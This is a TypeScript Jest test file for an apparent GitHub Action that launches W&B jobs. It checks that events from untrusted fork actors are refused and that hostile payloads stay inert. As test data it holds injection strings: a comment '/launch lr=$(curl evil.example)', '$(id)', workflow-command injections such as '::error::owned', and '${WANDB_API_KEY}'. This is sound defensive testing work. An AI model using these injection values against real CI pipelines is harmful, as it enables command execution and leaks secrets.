/** Events that people without write access can cause, the check that lets them through, and events of W&B. */
import { expect } from '@jest/globals';
import { startTokenService, type TokenService } from '../support/github-tokens.ts';
import { commentEvent, dispatchEvent, pullRequestEvent, workflowRunEvent } from '../support/github/events.ts';
import { startGitHub, type GitHubStandIn } from '../support/github/stand-in.ts';
import type { StepOptions, StepResult } from '../support/action.ts';
import { sideBySide, type Scenarios } from './support/side-by-side.ts';
import { annotations, withWorld, type World } from './support/world.ts';

const FORK = 'mallory/models';
const OWN = 'acme/models';
const PERMISSION = { 'allow-untrusted': 'permission:write', wait: 'none' };

interface Place {
  readonly world: World;
  readonly github: GitHubStandIn;
  /** Runs a step for an event of this actor. */
  readonly step: (
    inputs: Readonly<Record<string, string>>,
    event: { readonly name: string; readonly payload: object; readonly actor?: string },
    env?: StepOptions['env'],
  ) => Promise<StepResult>;
  /** Nothing reached W&B. */
  readonly untouched: () => void;
}

/** A world with a GitHub beside it, where ann may write, bob maintains, and mallory may only read. */
function withGitHub(act: (place: Place) => Promise<void>): () => Promise<void> {
  return () =>
    withWorld(async (world) => {
      const github = await startGitHub();
      for (const [login, role] of [
        ['ann', 'write'],
        ['bob', 'maintain'],
        ['tim', 'triage'],
        ['mallory', 'read'],
      ] as const) {
        github.permissions.set(login, role);
      }
      try {
        await act({
          world,
          github,
          step: (inputs, { name, payload, actor = 'mallory' }, env = {}) =>
            world.step(
              { 'github-token': github.token, ...inputs },
              {
                event: payload,
                env: {
                  GITHUB_API_URL: github.apiUrl,
                  GITHUB_EVENT_NAME: name,
                  GITHUB_ACTOR: actor,
                  GITHUB_TRIGGERING_ACTOR: actor,
                  ...env,
                },
              },
            ),
          untouched: () => expect(world.server.control.requests()).toEqual([]),
        });
        expect(github.faults).toEqual([]);
      } finally {
        await github.close();
      }
    });
}

/** Expects one line of error, and that nothing was launched. */
function refused({ untouched }: Place, step: StepResult, line: RegExp): void {
  expect(step.exitCode).toBe(1);
  expect(annotations(step, 'error')).toEqual([expect.stringMatching(line)]);
  expect(step.outputs).toEqual({ outcome: 'refused' });
  untouched();
}

const EVENTS = {
  pull_request_target: pullRequestEvent(FORK, 'mallory'),
  issue_comment: commentEvent('/launch lr=$(curl evil.example)', 'mallory'),
  workflow_run: workflowRunEvent('pull_request', FORK, 'mallory'),
  pull_request: pullRequestEvent(FORK, 'mallory'),
} as const;

/** Each event with a mode, and what that needs to get as far as its first request. */
const REFUSALS = [
  ['issue_comment', {}],
  ['pull_request', { mode: 'attach', job: '', 'run-id': 'r1', project: 'vision' }],
  ['workflow_run', { mode: 'launch', queue: '' }],
  ['pull_request_target', { mode: 'agent', job: '', queue: '', queues: 'gpu' }],
] as const;

/** Without the input, and with one whose check does not pass. */
function refusals(): Scenarios {
  const scenarios = REFUSALS.flatMap(([name, inputs]): [string, () => Promise<void>][] => [
    [
      `${name}: refused, and nobody is asked`,
      withGitHub(async (place) => {
        const step = await place.step(inputs, { name, payload: EVENTS[name] });
        refused(place, step, /^Mode \w+ is refused for .* allow-untrusted; see https:\S+\.$/);
        expect(place.github.requests).toEqual([]);
      }),
    ],
    [
      `${name} with permission:write: refused by what GitHub says`,
      withGitHub(async (place) => {
        const asked = { ...inputs, 'allow-untrusted': 'permission:write' };
        const step = await place.step(asked, { name, payload: EVENTS[name] });
        refused(place, step, /permission:write, and mallory has read\./);
        expect(place.github.requests).toHaveLength(1);
      }),
    ],
  ]);
  return Object.fromEntries(scenarios);
}

sideBySide('events of strangers', refusals());

sideBySide('story 32, Comment as code', {
  'a comment of somebody who may write goes through, and its text goes nowhere': withGitHub(async (place) => {
    const payload = commentEvent('/launch $(id) `id` ::error::x', 'ann');
    const step = await place.step(PERMISSION, { name: 'issue_comment', payload, actor: 'ann' });
    expect(step.exitCode).toBe(0);
    expect(place.world.pushes()).toBe(1);
    expect(JSON.stringify((await place.world.item()).runSpec)).not.toContain('id`');
    expect(place.github.requests.map(({ path }) => path)).toEqual([
      '/repos/acme/models/collaborators/ann/permission',
    ]);
  }),

  'who edits the comment of a stranger does not vouch for it': withGitHub(async (place) => {
    const payload = commentEvent('/launch', 'mallory', { action: 'edited', sender: 'ann' });
    const step = await place.step(PERMISSION, { name: 'issue_comment', payload, actor: 'ann' });
    refused(place, step, /mallory has read/);
  }),

  'who comments on the pull request of a stranger does not vouch for it': withGitHub(async (place) => {
    const payload = commentEvent('/launch', 'ann', { opener: 'mallory' });
    const step = await place.step(PERMISSION, { name: 'issue_comment', payload, actor: 'ann' });
    refused(place, step, /mallory has read/);
  }),

  'permission:maintain asks for more': withGitHub(async (place) => {
    const inputs = { ...PERMISSION, 'allow-untrusted': 'permission:maintain' };
    const of = (actor: string) =>
      place.step(inputs, { name: 'issue_comment', payload: commentEvent('x', actor), actor });
    refused(place, await of('ann'), /ann has write/);
    expect((await of('bob')).exitCode).toBe(0);
  }),

  'nobody that GitHub knows': withGitHub(async (place) => {
    const payload = commentEvent('x', 'helper[bot]');
    refused(
      place,
      await place.step(PERMISSION, { name: 'issue_comment', payload, actor: 'helper[bot]' }),
      /helper\[bot\] has none/,
    );
  }),

  'GitHub does not say: refused, with its reason': withGitHub(async (place) => {
    place.github.intercept({
      matches: /permission$/,
      status: 403,
      message: 'Resource not accessible by integration',
    });
    const payload = commentEvent('x', 'ann');
    refused(
      place,
      await place.step(PERMISSION, { name: 'issue_comment', payload, actor: 'ann' }),
      /cannot be found out: GitHub answered 403: Resource not accessible.*github-token/,
    );
  }),

  'no token to ask with': withGitHub(async (place) => {
    const event = { name: 'issue_comment', payload: commentEvent('x', 'ann'), actor: 'ann' };
    refused(place, await place.step({ ...PERMISSION, 'github-token': '' }, event), /github-token is empty/);
  }),

  'true is no check': withGitHub(async (place) => {
    const event = { name: 'issue_comment', payload: commentEvent('x', 'ann'), actor: 'ann' };
    const step = await place.step({ ...PERMISSION, 'allow-untrusted': 'true' }, event);
    expect(step.exitCode).toBe(1);
    expect(annotations(step, 'error')).toEqual([
      expect.stringMatching(/allow-untrusted.*names no check.*permission:write/),
    ]);
    place.untouched();
    expect(place.github.requests).toEqual([]);
  }),

  'on a push the check is not made': withGitHub(async (place) => {
    const step = await place.step(PERMISSION, { name: 'push', payload: {} });
    expect(step.exitCode).toBe(0);
    expect(place.github.requests).toEqual([]);
  }),
});

/** A world whose jobs get tokens that claim this environment. */
function inEnvironment(
  environment: string | undefined,
  act: (place: Place, tokens: TokenService) => Promise<void>,
): () => Promise<void> {
  return async () => {
    const tokens = await startTokenService(environment === undefined ? {} : { environment });
    try {
      await withGitHub((place) => act(place, tokens))();
    } finally {
      await tokens.close();
    }
  };
}

const TARGET = { name: 'pull_request_target', payload: EVENTS.pull_request_target };
const ENVIRONMENT = { 'allow-untrusted': 'environment:gpu', wait: 'none' };

sideBySide('story 33, The kind fork', {
  'who updates the branch of a stranger does not vouch for it': withGitHub(async (place) => {
    const payload = pullRequestEvent(FORK, 'mallory', 'ann');
    const step = await place.step(PERMISSION, { name: 'pull_request_target', payload, actor: 'ann' });
    refused(place, step, /mallory has read/);
  }),

  'a re-run by somebody who may write does not either': withGitHub(async (place) => {
    const step = await place.step(PERMISSION, TARGET, {
      GITHUB_TRIGGERING_ACTOR: 'ann',
      GITHUB_RUN_ATTEMPT: '2',
    });
    refused(place, step, /mallory has read/);
  }),

  'nor a re-run by a stranger of what ann caused': withGitHub(async (place) => {
    const payload = pullRequestEvent(OWN, 'ann');
    const env = { GITHUB_TRIGGERING_ACTOR: 'tim', GITHUB_RUN_ATTEMPT: '2' };
    refused(
      place,
      await place.step(PERMISSION, { name: 'pull_request_target', payload, actor: 'ann' }, env),
      /tim has read/,
    );
  }),

  'a run of a fork that ann ran again': withGitHub(async (place) => {
    const payload = workflowRunEvent('pull_request', FORK, 'mallory', 'ann');
    refused(
      place,
      await place.step(PERMISSION, { name: 'workflow_run', payload, actor: 'ann' }),
      /mallory has read/,
    );
  }),

  'a job in an environment that somebody approved goes through': inEnvironment(
    'GPU',
    async (place, tokens) => {
      place.github.environments.set('GPU', ['bob']);
      const step = await place.step(ENVIRONMENT, TARGET, tokens.env);
      expect(step.exitCode).toBe(0);
      expect(place.world.pushes()).toBe(1);
      expect(place.github.requests.map(({ path }) => path)).toEqual(['/repos/acme/models/environments/GPU']);
      expect(tokens.minted).toEqual(['wandb-launch-action']);
      expect(step.stdout.replace(/^::add-mask::.*$/gm, '')).not.toMatch(/eyJ/);
    },
  ),

  'an environment that nobody approves is none': inEnvironment('gpu', async (place, tokens) => {
    place.github.environments.set('gpu', []);
    refused(
      place,
      await place.step(ENVIRONMENT, TARGET, tokens.env),
      /nobody has to approve.*required reviewers/,
    );
  }),

  'a job in another environment': inEnvironment('cpu', async (place, tokens) => {
    refused(
      place,
      await place.step(ENVIRONMENT, TARGET, tokens.env),
      /environment:gpu, and this job runs in the environment "cpu"/,
    );
    expect(place.github.requests).toEqual([]);
  }),

  'a job in none': inEnvironment(undefined, async (place, tokens) => {
    refused(
      place,
      await place.step(ENVIRONMENT, TARGET, tokens.env),
      /this job runs in none\. Set environment: gpu/,
    );
  }),

  'a job that cannot prove where it runs': withGitHub(async (place) => {
    refused(place, await place.step(ENVIRONMENT, TARGET), /no identity token.*id-token: write/);
  }),
});

sideBySide('story 34, Dependabot Monday', {
  'no secrets and no-key: skip: green, with a notice, and no request': withGitHub(async (place) => {
    const payload = pullRequestEvent(OWN, 'dependabot[bot]');
    const event = { name: 'pull_request', payload, actor: 'dependabot[bot]' };
    const step = await place.step({ ...PERMISSION, 'api-key': '', 'no-key': 'skip' }, event);
    expect(step.exitCode).toBe(0);
    expect(annotations(step, 'notice')).toEqual([expect.stringContaining('caused by Dependabot')]);
    place.untouched();
    expect(place.github.requests).toEqual([]);
  }),
});

const EVENT_CONFIG = { 'event-config': 'artifact_version_string\nalias', wait: 'none' };

sideBySide('repository_dispatch of a W&B automation', {
  'the named values stand in the config of the run, and only they': withGitHub(async ({ world, step }) => {
    const event = { name: 'repository_dispatch', payload: dispatchEvent(), actor: 'ann' };
    const done = await step({ ...EVENT_CONFIG, 'run-config': 'lr=0.1' }, event);
    expect(done.exitCode).toBe(0);
    const { overrides } = (await world.item()).runSpec as {
      overrides: { run_config: Record<string, unknown> };
    };
    expect(overrides.run_config).toMatchObject({ lr: 0.1, github: { event: 'repository_dispatch' } });
    expect(overrides.run_config['event']).toEqual({
      artifact_version_string: 'acme-org/wandb-registry-model/detector:v3',
      alias: 'staging',
    });
  }),

  'a hostile payload stays text, and what is no text is left out and told': withGitHub(
    async ({ world, step }) => {
      const payload = dispatchEvent({
        alias: '$(id)\n::error::owned\n${WANDB_API_KEY}',
        artifact_metadata: { a: '::set-output name=x::y' },
        'a\n::error::owned': 1,
      });
      const done = await step(
        { 'event-config': 'true', wait: 'none' },
        { name: 'repository_dispatch', payload, actor: 'ann' },
      );
      expect(done.exitCode).toBe(0);
      const spec = JSON.stringify((await world.item()).runSpec);
      expect(spec).toContain(JSON.stringify('$(id)\n::error::owned\n${WANDB_API_KEY}'));
      expect(spec).not.toContain('artifact_metadata');
      expect(annotations(done, 'error')).toEqual([]);
      expect(annotations(done, 'warning')).toContainEqual(expect.stringContaining('"artifact_metadata"'));
      expect(done.stdout).not.toMatch(/^::error/m);
    },
  ),

  'a value that is not there: one line, and nothing is launched': withGitHub(async (place) => {
    const payload = dispatchEvent();
    const done = await place.step(
      { ...EVENT_CONFIG, 'event-config': 'aliass' },
      { name: 'repository_dispatch', payload },
    );
    expect(done.exitCode).toBe(1);
    expect(annotations(done, 'error')).toEqual([expect.stringContaining('Did you mean alias?')]);
    expect(done.outputs).toEqual({ outcome: 'submit-failed' });
    place.untouched();
  }),

  'a megabyte of text: one line': withGitHub(async (place) => {
    const payload = dispatchEvent({ alias: 'x'.repeat(1_000_000) });
    const done = await place.step(EVENT_CONFIG, { name: 'repository_dispatch', payload });
    expect(annotations(done, 'error')).toEqual([expect.stringContaining('"alias" has 1000000 characters')]);
    expect(done.stdout.length).toBeLessThan(5_000);
    place.untouched();
  }),

  'another event of the same workflow: nothing is added': withGitHub(async ({ world, step }) => {
    const done = await step(EVENT_CONFIG, {
      name: 'workflow_dispatch',
      payload: { inputs: {} },
      actor: 'ann',
    });
    expect(done.exitCode).toBe(0);
    expect(JSON.stringify((await world.item()).runSpec)).not.toContain('"event":{');
  }),

  'several launches: each has them': withGitHub(async ({ world, step }) => {
    const inputs = {
      ...EVENT_CONFIG,
      launches: '[{"run-config": {"lr": 1}}, {"run-config": {"lr": 2, "event": "mine"}}]',
    };
    const refusedStep = await step(inputs, {
      name: 'repository_dispatch',
      payload: dispatchEvent(),
      actor: 'ann',
    });
    expect(annotations(refusedStep, 'error')).toEqual([
      expect.stringContaining('run-config has the key "event" as well'),
    ]);
    const launches = '[{"run-config": {"lr": 1}}, {"run-config": {"lr": 2}}]';
    const done = await step(
      { ...inputs, launches },
      { name: 'repository_dispatch', payload: dispatchEvent(), actor: 'ann' },
    );
    expect(done.exitCode).toBe(0);
    for (const { runSpec } of await world.items()) {
      expect(JSON.stringify(runSpec)).toContain('"alias":"staging"');
    }
  }),
});
